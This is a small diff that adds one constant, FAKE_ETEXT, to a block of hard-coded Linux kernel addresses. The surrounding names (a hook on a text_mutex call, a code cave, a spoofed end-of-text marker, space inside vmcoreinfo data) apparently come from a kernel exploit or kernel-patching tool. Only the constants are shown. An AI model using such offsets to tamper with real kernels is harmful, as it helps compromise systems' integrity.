@@ -15,6 +15,7 @@
 #define HOOK        (PREPARE + 7) /* its call that takes text_mutex */
 #define LOCK        (KERNEL + 0x3000) /* mutex_lock() */
 #define CAVE        (KERNEL + 0x3f00)
+#define FAKE_ETEXT  (KERNEL + 0x3ab5)
 #define MUTEX       0xffffffff82000040ull
 #define NOTES       0xffffffff82001000ull /* vmcoreinfo_data */
 #define BOX         (NOTES + PAGE_SIZE - 128)
